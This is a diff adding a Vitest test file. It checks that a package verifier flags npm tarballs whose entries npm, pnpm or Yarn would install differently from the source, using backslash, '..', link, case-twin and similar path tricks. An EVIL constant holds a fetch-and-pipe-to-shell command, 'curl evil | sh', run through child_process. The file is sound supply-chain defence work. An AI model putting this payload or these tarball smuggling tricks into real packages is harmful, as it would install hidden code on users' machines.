@@ -1,0 +1,81 @@
+/**
+ * Hostile tarballs against source match: entries npm, pnpm or Yarn place somewhere else than
+ * where the comparison read them (or that one of them installs and the comparison never saw)
+ * must never come out `match` or `built`.
+ */
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, test } from 'vitest';
+import { compareContents } from '../src/verify/compare';
+import { listTarball } from '../src/verify/tarball';
+import { rawTarball, type RawEntry } from './helpers/raw-tar';
+
+const manifest = JSON.stringify({ name: 'p', version: '1.0.0', main: 'index.js' });
+const GOOD = 'module.exports = 1;\n';
+const EVIL = 'require("child_process").exec("curl evil | sh");\n';
+const source = new Map([
+  ['package.json', Buffer.from(manifest)],
+  ['index.js', Buffer.from(GOOD)],
+]);
+
+async function verdictOf(entries: RawEntry[]) {
+  const tarball = await listTarball(rawTarball([{ path: 'package/package.json', data: manifest }, ...entries]));
+  return compareContents({ tarball, source, expected: [...source.keys()], commit: 'c'.repeat(40), commitFrom: 'gitHead', anomalies: tarball.anomalies });
+}
+
+/** What npm itself (pacote, as `npm install` extracts) writes for this tarball. */
+async function npmInstalls(entries: RawEntry[]): Promise<string> {
+  const pacote = require('pacote') as typeof import('pacote');
+  const dir = mkdtempSync(join(tmpdir(), 'pg-hostile-'));
+  try {
+    writeFileSync(join(dir, 'p.tgz'), rawTarball([{ path: 'package/package.json', data: manifest }, ...entries]));
+    await pacote.extract(`file:${join(dir, 'p.tgz')}`, join(dir, 'out'), { cache: join(dir, 'cache') });
+    return readFileSync(join(dir, 'out', 'index.js'), 'utf8');
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+}
+
+describe('tarball entries read elsewhere than an installer writes them', () => {
+  test('a plain tarball with directory entries still matches', async () => {
+    expect((await verdictOf([{ path: 'package/', type: '5' }, { path: 'package/index.js', data: GOOD }])).verdict).toBe('match');
+  });
+
+  test.each<[string, RawEntry[]]>([
+    // npm on Linux keeps `\` in the name: index.js stays EVIL, the backslash copy lands elsewhere.
+    ['a backslash path after the real file', [{ path: 'package/index.js', data: EVIL }, { path: 'package\\index.js', data: GOOD }]],
+    // node-tar strips the first component before the leading `/`: npm writes package/index.js.
+    ['an absolute path after the real file', [{ path: 'package/index.js', data: EVIL }, { path: '/package/index.js', data: GOOD }]],
+  ])('%s: npm installs code that is not in the source', async (_, entries) => {
+    expect(await npmInstalls(entries)).toBe(EVIL);
+    const result = await verdictOf(entries);
+    expect(result.verdict).toBe('diverged');
+  });
+
+  test.each<[string, RawEntry[]]>([
+    // pnpm resolves `..` (package/../index.js is its index.js); npm and Yarn drop the entry.
+    ['a `..` path', [{ path: 'package/index.js', data: GOOD }, { path: 'package/../index.js', data: EVIL }]],
+    // Windows npm and pnpm read a backslash as a separator: this is their index.js.
+    ['a backslash `..` path', [{ path: 'package/index.js', data: GOOD }, { path: 'package/x\\..\\index.js', data: EVIL }]],
+    ['a `x/..` path', [{ path: 'package/index.js', data: GOOD }, { path: 'package/x/../index.js', data: EVIL }]],
+    // pnpm takes a path without a `/` as is; npm drops it.
+    ['a path with one component', [{ path: 'package/index.js', data: GOOD }, { path: 'index.js', data: EVIL }]],
+    ['a PAX path with one component', [{ path: 'package/index.js', data: GOOD }, { path: 'package/zz.js', data: EVIL, pax: { path: 'index.js' } }]],
+    // pnpm reads a hard link's body as the file; npm and Yarn drop links.
+    ['a hard link with a body', [{ path: 'package/index.js', data: GOOD }, { path: 'package/index.js', type: '1', link: 'package/x', data: EVIL }]],
+    // Yarn creates symbolic links.
+    ['a symbolic link', [{ path: 'package/evil.js', data: EVIL }, { path: 'package/index.js', type: '2', link: 'evil.js' }]],
+    // Yarn normalises `./package/index.js` to package/index.js and strips package/.
+    ['a `.` first component', [{ path: './package/index.js', data: EVIL }, { path: 'package/index.js', data: GOOD }]],
+    ['an empty component', [{ path: 'package/index.js', data: GOOD }, { path: 'package//index.js', data: EVIL }, { path: 'package/index.js', data: GOOD }]],
+    // A case-insensitive file system (macOS, Windows) keeps one file: the last written.
+    ['a case-only twin', [{ path: 'package/index.js', data: GOOD }, { path: 'package/INDEX.js', data: EVIL }]],
+    ['a Unicode-normalisation twin', [{ path: 'package/index.js', data: GOOD }, { path: 'package/caf\u00e9.js', data: 'a' }, { path: 'package/cafe\u0301.js', data: EVIL }]],
+    ['a Windows trailing-dot twin', [{ path: 'package/index.js', data: GOOD }, { path: 'package/index.js.', data: EVIL }]],
+  ])('%s: never match or built', async (_, entries) => {
+    const result = await verdictOf(entries);
+    expect(result.verdict).toBe('diverged');
+    expect(result.files!.modified.length).toBeGreaterThan(0);
+  });
+});
